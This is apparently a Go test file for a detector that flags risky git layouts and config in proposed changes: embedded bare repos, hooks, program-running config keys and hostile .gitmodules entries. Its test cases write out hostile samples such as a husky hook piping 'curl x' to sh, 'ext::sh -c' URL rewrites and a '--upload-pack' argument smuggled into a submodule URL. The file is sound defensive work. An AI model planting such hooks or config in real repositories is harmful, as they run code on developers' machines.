package gitrisk

import (
	"path"
	"strings"
	"testing"
)

// tree is a checkout after the changes: its paths and every directory
// above them.
func tree(paths ...string) func(string) bool {
	m := map[string]bool{}
	for _, p := range paths {
		for ; p != "." && p != ""; p = path.Dir(p) {
			m[p] = true
		}
	}
	return func(p string) bool { return m[p] }
}

func writes(files map[string]string) []Change {
	var out []Change
	for p, c := range files {
		out = append(out, Change{Path: p, Content: []byte(c)})
	}
	return out
}

func keys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// Every shape git takes for a repository, and a file git would read as
// config, is named; each case is a layout a hostile candidate can write
// (every file a hypothesis writes is a regular file; directories exist
// because something is in them).
func TestCheckNamesEveryRepositoryShape(t *testing.T) {
	for _, c := range []struct {
		name  string
		files map[string]string
		also  []string // already in the checkout
		want  string   // a risk's path
	}{
		{"embedded bare repo", map[string]string{
			"vendor/lib/HEAD": "ref: refs/heads/main\n", "vendor/lib/config": "[core]\n\tworktree = ..\n\tfsmonitor = ./x.sh\n",
			"vendor/lib/objects/info/packs": "", "vendor/lib/refs/heads/main": "0000000000000000000000000000000000000000\n"}, nil, "vendor/lib/"},
		{"packed-refs only", map[string]string{"a/HEAD": "ref: refs/heads/main\n", "a/packed-refs": "", "a/objects/.keep": "", "a/refs/.keep": ""}, nil, "a/"},
		{"worktree gitdir with commondir", map[string]string{"w/HEAD": "ref: refs/heads/x\n", "w/commondir": "../../.git\n", "w/gitdir": "/tmp/x/.git\n"}, nil, "w/"},
		{"HEAD written beside objects and refs already there", map[string]string{"fixture/HEAD": "ref: refs/heads/main\n"}, []string{"fixture/objects/pack/p.pack", "fixture/refs/heads/main"}, "fixture/"},
		{"a hook in an existing repository", map[string]string{"fixture/hooks/post-checkout": "#!/bin/sh\n"}, []string{"fixture/HEAD", "fixture/objects/x", "fixture/refs/x"}, "fixture/"},
		{"checkout root made a bare repo", map[string]string{"HEAD": "ref: refs/heads/main\n", "objects/x": "", "refs/x": ""}, nil, "the checkout's root"},
		{".git file with gitdir", map[string]string{"sub/.git": "gitdir: ../evil\n"}, nil, "sub/.git"},
		{".GIT on a case-insensitive file system", map[string]string{"sub/.GIT/config": "[core]\n"}, nil, "sub/.GIT/config"},
		{"husky hook", map[string]string{".husky/pre-commit": "curl x | sh\n"}, nil, ".husky/pre-commit"},
		{"pre-commit config", map[string]string{".pre-commit-config.yaml": "repos: []\n"}, nil, ".pre-commit-config.yaml"},
	} {
		t.Run(c.name, func(t *testing.T) {
			all := append(keys(c.files), c.also...)
			rs := Check(writes(c.files), tree(all...), nil)
			found := false
			for _, r := range rs {
				found = found || r.Path == c.want
			}
			if !found {
				t.Errorf("risks %v, want one at %s", rs, c.want)
			}
		})
	}
}

// Every variable that runs a program or moves where git reads from, in a
// file of any name: git reads any file as config through include.path,
// includeIf or core.attributesFile, and a project's own .gitconfig is
// often included by its developers' .git/config.
func TestCheckNamesEveryRiskyConfigKey(t *testing.T) {
	for _, v := range []string{
		"[core]\n\tfsmonitor = ./evil.sh",
		"[core]\n\tsshCommand = ./evil.sh",
		"[core]\n\tpager = ./evil.sh",
		"[core]\n\teditor = ./evil.sh",
		"[core]\n\thooksPath = tools/hooks",
		"[core]\n\tworktree = ..",
		"[core]\n\taskPass = ./evil.sh",
		"[core]\n\tgitProxy = ./evil.sh",
		"[core]\n\tattributesFile = a",
		"[CORE]\n\tFSMONITOR = ./evil.sh",
		"[core] fsmonitor = ./evil.sh",
		"[core]\n\tfsmonitor = \"./ev\\\n\til.sh\"",
		"[filter \"x\"]\n\tclean = ./evil.sh",
		"[filter \"x\"]\n\tsmudge = ./evil.sh",
		"[filter \"x\"]\n\tprocess = ./evil.sh",
		"[filter.x]\n\tsmudge = ./evil.sh",
		"[diff \"x\"]\n\ttextconv = ./evil.sh",
		"[diff \"x\"]\n\tcommand = ./evil.sh",
		"[diff]\n\texternal = ./evil.sh",
		"[merge \"x\"]\n\tdriver = ./evil.sh",
		"[include]\n\tpath = ../evil.cfg",
		"[includeIf \"gitdir:~/\"]\n\tpath = ../evil.cfg",
		"[alias]\n\tst = !./evil.sh",
		"[credential]\n\thelper = ./evil.sh",
		"[credential \"https://x\"]\n\thelper = ./evil.sh",
		"[gpg]\n\tprogram = ./evil.sh",
		"[gpg \"ssh\"]\n\tprogram = ./evil.sh",
		"[sequence]\n\teditor = ./evil.sh",
		"[pager]\n\tlog = ./evil.sh",
		"[interactive]\n\tdiffFilter = ./evil.sh",
		"[remote \"origin\"]\n\tuploadpack = ./evil.sh",
		"[url \"ext::sh -c evil\"]\n\tinsteadOf = https://",
		"[protocol \"ext\"]\n\tallow = always",
		"[uploadpack]\n\tpackObjectsHook = ./evil.sh",
		"[difftool \"x\"]\n\tcmd = ./evil.sh",
		"[mergetool \"x\"]\n\tcmd = ./evil.sh",
		"[browser \"x\"]\n\tcmd = ./evil.sh",
		"[web]\n\tbrowser = ./evil.sh",
		"[trailer \"x\"]\n\tcommand = ./evil.sh",
		"[hook \"x\"]\n\tcommand = ./evil.sh",
		"[imap]\n\ttunnel = ./evil.sh",
		"[sendemail]\n\tsmtpServer = ./evil.sh",
		"[safe]\n\tdirectory = *",
		"[newfangled]\n\tfooCommand = ./evil.sh",
	} {
		for _, name := range []string{"vendor/lib/config", "project.gitconfig", "manual/notes.txt"} {
			rs := Check([]Change{{Path: name, Content: []byte(v + "\n")}}, tree(name), nil)
			if len(rs) != 1 || rs[0].Path != name || !strings.Contains(rs[0].Why, "line ") {
				t.Errorf("%s holding %q: %v", name, v, rs)
			}
		}
	}
}

func TestCheckNamesRiskyGitmodules(t *testing.T) {
	for _, v := range []string{
		"[submodule \"x\"]\n\tpath = x\n\turl = ../../evil",
		"[submodule \"x\"]\n\tpath = x\n\turl = /home/u/evil",
		"[submodule \"x\"]\n\tpath = x\n\turl = file:///tmp/evil",
		"[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c evil",
		"[submodule \"x\"]\n\tpath = x\n\turl = --upload-pack=evil",
		"[submodule \"x\"]\n\tpath = ../out\n\turl = https://example.com/x",
		"[submodule \"x\"]\n\tpath = .git/hooks\n\turl = https://example.com/x",
		"[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = !evil",
	} {
		if rs := Check([]Change{{Path: ".gitmodules", Content: []byte(v + "\n")}}, tree(".gitmodules"), nil); len(rs) != 1 {
			t.Errorf("%q: %v", v, rs)
		}
	}
}

// What must stay clean: a file named HEAD in a docs dir, a directory
// named refs or objects alone, .gitattributes, .gitignore, a submodule on
// a remote, an INI or TOML file whose keys run nothing, a config variable
// the checkout already had, a hooks dir outside any repository.
func TestCheckLeavesLegitimateChangesClean(t *testing.T) {
	for _, c := range []struct {
		files map[string]string
		old   map[string]string
		also  []string
	}{
		{files: map[string]string{"manual/HEAD": "the HEAD of the document\n"}},
		{files: map[string]string{"manual/refs/index.md": "refs\n", "manual/objects/a.md": "x\n"}},
		{files: map[string]string{".gitattributes": "*.png binary\n*.lock filter=lfs diff=lfs merge=lfs\n", ".gitignore": "build/\n"}},
		{files: map[string]string{".gitmodules": "[submodule \"x\"]\n\tpath = third_party/x\n\turl = https://github.com/o/x.git\n\tbranch = main\n"}},
		{files: map[string]string{"setup.cfg": "[metadata]\nname = x\n[options]\npackages = find:\n", "Cargo.toml": "[package]\nname = \"x\"\n[alias]\nb = \"build\"\n"}},
		{files: map[string]string{".editorconfig": "[*]\nindent_style = tab\n"}},
		{files: map[string]string{"tools/git.cfg": "[diff \"x\"]\n\ttextconv = ./tool.sh\n[core]\n\tautocrlf = false\n"},
			old: map[string]string{"tools/git.cfg": "[diff \"x\"]\n\ttextconv = ./tool.sh\n"}},
		{files: map[string]string{"src/hooks/useThing.js": "export {}\n"}},
		{files: map[string]string{"main.go": "package main\n\nfunc main() { a := []int{1}; _ = a[0] }\n"}},
	} {
		var changes []Change
		var paths []string
		for p, v := range c.files {
			changes = append(changes, Change{Path: p, Content: []byte(v), Old: []byte(c.old[p])})
			paths = append(paths, p)
		}
		if rs := Check(changes, tree(append(paths, c.also...)...), nil); len(rs) != 0 {
			t.Errorf("%v: %v", keys(c.files), rs)
		}
	}
}

// The checkout's own core.hooksPath names a directory of hooks inside it.
func TestCheckNamesHooksUnderTheCheckoutsHooksPath(t *testing.T) {
	rs := Check([]Change{{Path: "tools/hooks/pre-commit", Content: []byte("#!/bin/sh\n")}}, tree("tools/hooks/pre-commit"), []string{"tools/hooks"})
	if len(rs) != 1 || rs[0].Path != "tools/hooks/pre-commit" {
		t.Errorf("%v", rs)
	}
}
